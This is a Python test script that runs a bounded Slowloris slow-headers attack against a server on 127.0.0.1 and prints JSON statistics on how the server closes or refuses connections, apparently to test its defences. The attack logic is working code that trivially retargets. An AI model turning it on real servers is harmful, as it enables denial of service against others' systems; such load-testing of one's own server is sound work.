#!/usr/bin/env python3
"""slowloris.py - a bounded slow-headers attack on 127.0.0.1, for the tests.

Opens --conns connections to 127.0.0.1:PORT, spread over the source
addresses 127.0.0.2, 127.0.0.3, ... (--addrs of them), sends a request line
and a Host header on each, then one more header line every --every seconds,
never ending the headers.  A connection the server closes is opened again
at once, as a real attacker would.  After --for seconds every connection is
closed and a summary is printed as JSON:

  {"opened": N, "closed_by_server": N, "refused_at_once": N,
   "first_close": SECONDS or null, "closes": [SECONDS, ...]}

where the times count from the start and "closes" holds the time of every
server close of a connection that had been sending for at least 0.5 s.
Those closed sooner (refused past a per-address cap) are counted in
"refused_at_once" and not opened again.
"""
import argparse
import json
import resource
import selectors
import socket
import sys
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    ap.add_argument("--conns", type=int, default=300)
    ap.add_argument("--addrs", type=int, default=1)
    ap.add_argument("--every", type=float, default=2.0)
    ap.add_argument("--for", dest="duration", type=float, default=8.0)
    a = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, a.conns * 2 + 64)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))

    sel = selectors.DefaultSelector()
    t0 = time.monotonic()
    stats = {"opened": 0, "closed_by_server": 0, "first_close": None,
             "closes": [], "refused_at_once": 0}

    def open_one(i):
        src = "127.0.0.%d" % (2 + i % a.addrs)
        s = socket.socket()
        s.bind((src, 0))
        s.settimeout(2)
        try:
            s.connect(("127.0.0.1", a.port))
            s.sendall(b"POST / HTTP/1.1\r\nHost: x\r\n")
        except OSError:
            s.close()
            return
        s.setblocking(False)
        stats["opened"] += 1
        now = time.monotonic()
        sel.register(s, selectors.EVENT_READ, {"i": i, "since": now,
                                               "next": now + a.every})

    for i in range(a.conns):
        open_one(i)
    n = 0
    while time.monotonic() - t0 < a.duration:
        for key, _ in sel.select(timeout=0.05):
            s, d = key.fileobj, key.data
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                continue  # an answer: the connection stays until it closes
            now = time.monotonic()
            sel.unregister(s)
            s.close()
            stats["closed_by_server"] += 1
            if now - d["since"] >= 0.5:
                stats["closes"].append(round(now - t0, 2))
                if stats["first_close"] is None:
                    stats["first_close"] = round(now - t0, 2)
                open_one(d["i"])
            else:
                # Refused at once (a per-address cap): trying again at
                # once would only spin both sides.
                stats["refused_at_once"] += 1
        now = time.monotonic()
        for key in list(sel.get_map().values()):
            d = key.data
            if now >= d["next"]:
                d["next"] = now + a.every
                n += 1
                try:
                    key.fileobj.send(b"X-Slow-%d: 1\r\n" % n)
                except OSError:
                    pass
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    json.dump(stats, sys.stdout)
    print()


if __name__ == "__main__":
    main()
